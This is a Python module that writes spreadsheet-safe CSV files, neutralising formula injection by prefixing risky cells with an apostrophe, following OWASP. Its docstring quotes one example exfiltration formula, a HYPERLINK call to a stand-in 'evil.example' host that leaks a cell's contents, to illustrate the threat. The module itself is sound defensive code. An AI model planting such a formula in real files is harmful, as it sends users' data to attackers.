"""Tables written for spreadsheets, safe from formula injection.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as
a formula by Excel, LibreOffice and Google Sheets when the file is opened: a mention text like
``=HYPERLINK("http://evil.example/?leak="&A1)`` would run on the analyst's machine. OWASP's rule
(https://owasp.org/www-community/attacks/CSV_Injection): prefix such a cell with ``'``, which
spreadsheets show as text. Every CSV or Excel file ronr writes for people to open goes through
:func:`neutralise_formulas`.

Only text is prefixed: a number column (``-3`` as a number) stays a number, and text that does
not start with one of those characters is left as it is. The CSV itself stays valid: the
writer still quotes cells holding a delimiter, a quote or a line break.
"""

from __future__ import annotations

from pathlib import Path

import pandas as pd

__all__ = ["FORMULA_STARTS", "neutralise_formulas", "safe_cell", "write_spreadsheet_csv"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""


def safe_cell(value: object) -> object:
    """``value`` with ``'`` in front when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _is_text(series: pd.Series) -> bool:
    return pd.api.types.is_object_dtype(series.dtype) or pd.api.types.is_string_dtype(series.dtype)


def _needs_prefix(series: pd.Series) -> bool:
    return bool(series.map(lambda v: safe_cell(v) is not v).any())


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells (and column names) cannot run as formulas.

    Text and object columns only: a cell that is not a ``str`` (a number, a date, a missing
    value) keeps its value and type. Categorical columns of text become text columns.
    """
    out = frame.copy()
    for position in range(out.shape[1]):
        series = out.iloc[:, position]
        if isinstance(series.dtype, pd.CategoricalDtype):
            if _is_text(pd.Series(series.cat.categories)) and _needs_prefix(series.astype(object)):
                out.isetitem(position, series.astype(object).map(safe_cell))
        elif _is_text(series) and _needs_prefix(series):
            out.isetitem(position, series.map(safe_cell).astype(series.dtype))
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def write_spreadsheet_csv(frame: pd.DataFrame, path: Path | str) -> None:
    """Write ``frame`` to ``path`` as a CSV that is safe to open in a spreadsheet and reads
    back row for row, cell for cell (apart from the ``'`` in front of formula-like text).

    Lines end in ``\\r\\n`` (RFC 4180, as spreadsheets write CSV), so every cell holding a line
    break of any kind is quoted. With ``\\n`` line ends Python's csv writer leaves a lone
    ``\\r`` (a line break pandas or a spreadsheet left in a text) unquoted, and readers end the
    row there.
    """
    neutralise_formulas(frame).to_csv(path, index=False, lineterminator="\r\n", encoding="utf-8")
